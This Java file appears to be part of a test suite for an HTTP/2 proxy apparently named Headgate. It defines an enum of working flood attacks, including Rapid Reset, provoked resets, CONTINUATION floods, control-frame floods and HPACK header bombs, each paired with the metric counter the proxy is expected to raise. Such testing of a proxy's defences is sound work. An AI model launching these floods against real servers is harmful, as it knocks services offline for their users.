package io.headgate.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;

/** What an HTTP/2 peer can send cheaply, and the counter that names it. */
enum Flood {
  /** CVE-2023-44487: open and cancel at once, so that the limit of open streams never holds. */
  RAPID_RESET("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      for (int i = 0; i < ROUNDS && peer.send(rapid(i * BATCH)); i++) {}
    }

    private Frames rapid(int first) {
      Frames frames = new Frames();
      for (int i = first; i < first + BATCH; i++) {
        frames.get(2 * i + 1, "/hold").cancel(2 * i + 1);
      }
      return frames;
    }
  },

  /** CVE-2025-8671: make the proxy reset the streams, by a window update of nothing. */
  PROVOKED_RESET_WINDOW("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(peer, (frames, stream) -> frames.post(stream, "/hold").window(stream, 0));
    }
  },

  /** The same by a window that overflows. */
  PROVOKED_RESET_OVERFLOW("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(
          peer, (frames, stream) -> frames.post(stream, "/hold").window(stream, Integer.MAX_VALUE));
    }
  },

  /** The same by a stream that depends on itself. */
  PROVOKED_RESET_PRIORITY("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(peer, (frames, stream) -> frames.post(stream, "/hold").priority(stream, stream));
    }
  },

  /** The same by a body of another length than was said. */
  PROVOKED_RESET_LENGTH("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(
          peer,
          (frames, stream) ->
              frames
                  .frame(
                      Frames.HEADERS,
                      Frames.END_HEADERS,
                      stream,
                      Frames.head("POST", "/hold", "content-length", "5"))
                  .data(stream, true, new byte[1]));
    }
  },

  /** The same by requests that are malformed. */
  PROVOKED_RESET_MALFORMED("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(
          peer,
          (frames, stream) ->
              frames.frame(
                  Frames.HEADERS,
                  Frames.END_HEADERS | Frames.END_STREAM,
                  stream,
                  Frames.head("GET", "/", "Upper-Case", "1")));
    }
  },

  /** More streams than are allowed, each of which has to be refused. */
  REFUSED_STREAMS("http2.headgate_reset_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      provoke(peer, (frames, stream) -> frames.post(stream, "/hold"));
    }
  },

  /** CVE-2024-27316 and its like: a head that goes on in ever more frames. */
  CONTINUATION("http2.headgate_continuation_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      continued(peer, Frames.field("a", "b"));
    }
  },

  /** The same without a byte of payload. */
  EMPTY_CONTINUATION("http2.inbound_empty_frames_flood") {
    @Override
    void attack(H2Attacker peer) {
      continued(peer, Frames.NOTHING);
    }
  },

  /** Frames of the largest size, so that the block is too long before it has too many. */
  LARGE_CONTINUATION("http2.header_overflow") {
    @Override
    void attack(H2Attacker peer) {
      continued(peer, new byte[16_384]);
    }
  },

  SETTINGS("http2.headgate_inbound_control_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      repeat(peer, Frames::settings);
    }
  },

  PING("http2.headgate_inbound_control_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      repeat(peer, Frames::ping);
    }
  },

  UNKNOWN_FRAMES("http2.headgate_inbound_control_flood_total") {
    @Override
    void attack(H2Attacker peer) {
      repeat(peer, frames -> frames.frame(0xfa, 0, 0, Frames.NOTHING));
    }
  },

  PRIORITY("http2.inbound_priority_frames_flood") {
    @Override
    void attack(H2Attacker peer) {
      repeat(peer, frames -> frames.priority(1, 3));
    }
  },

  WINDOW_UPDATE("http2.inbound_window_update_frames_flood") {
    @Override
    void attack(H2Attacker peer) {
      repeat(peer, frames -> frames.window(0, 1));
    }
  },

  EMPTY_DATA("http2.inbound_empty_frames_flood") {
    @Override
    void attack(H2Attacker peer) {
      peer.send(new Frames().post(1, "/hold"));
      repeat(peer, frames -> frames.data(1, false, Frames.NOTHING));
    }
  },

  /** CVE-2016-6581: one large field in the table and ten thousand bytes that each repeat it. */
  INDEXED_BOMB("http2.headgate_reset_flood_total", "http2.header_overflow") {
    @Override
    void attack(H2Attacker peer) {
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      block.writeBytes(Frames.head("GET", "/"));
      block.writeBytes(Frames.indexedField("x", "v".repeat(3_900)));
      block.writeBytes(repeated(10_000, (byte) (0x80 | 62)));
      bomb(peer, block.toByteArray());
    }
  },

  /** Cookies of a byte each, which count one by one although they are joined later. */
  COOKIE_CRUMBS("http2.headgate_reset_flood_total", "http2.header_overflow") {
    @Override
    void attack(H2Attacker peer) {
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      block.writeBytes(Frames.head("GET", "/"));
      block.writeBytes(Frames.indexedField("cookie", "a"));
      block.writeBytes(repeated(3_000, (byte) (0x80 | 62)));
      bomb(peer, block.toByteArray());
    }
  };

  private static final int ROUNDS = 200;
  private static final int BATCH = 50;

  /** Counts once for each connection that it closed. */
  final String counter;

  /** Counts each time that the attack was answered before, empty when it never is. */
  final String counterOfAnswers;

  Flood(String counter) {
    this(counter, "");
  }

  Flood(String counter, String counterOfAnswers) {
    this.counter = counter;
    this.counterOfAnswers = counterOfAnswers;
  }

  /** Sends until the connection ends, or what no proxy should take. */
  abstract void attack(H2Attacker peer) throws IOException;

  /** A stream of an attack. */
  private interface PerStream {
    void write(Frames frames, int stream);
  }

  /** A frame of an attack. */
  private interface PerFrame {
    void write(Frames frames);
  }

  private static void provoke(H2Attacker peer, PerStream what) {
    for (int round = 0; round < ROUNDS; round++) {
      Frames frames = new Frames();
      for (int i = round * BATCH; i < (round + 1) * BATCH; i++) {
        what.write(frames, 2 * i + 1);
      }
      if (!peer.send(frames)) {
        return;
      }
    }
  }

  private static void repeat(H2Attacker peer, PerFrame what) {
    Frames frames = new Frames();
    for (int i = 0; i < BATCH; i++) {
      what.write(frames);
    }
    for (int round = 0; round < ROUNDS && peer.send(frames); round++) {}
  }

  private static void continued(H2Attacker peer, byte[] piece) {
    peer.send(new Frames().frame(Frames.HEADERS, 0, 1, Frames.head("GET", "/")));
    repeat(peer, frames -> frames.frame(Frames.CONTINUATION, 0, 1, piece));
  }

  private static void bomb(H2Attacker peer, byte[] block) {
    int whole = Frames.END_HEADERS | Frames.END_STREAM;
    for (int i = 0; i < ROUNDS * BATCH; i++) {
      if (!peer.send(new Frames().frame(Frames.HEADERS, whole, 2 * i + 1, block))) {
        return;
      }
    }
  }

  private static byte[] repeated(int count, byte value) {
    byte[] bytes = new byte[count];
    Arrays.fill(bytes, value);
    return bytes;
  }
}
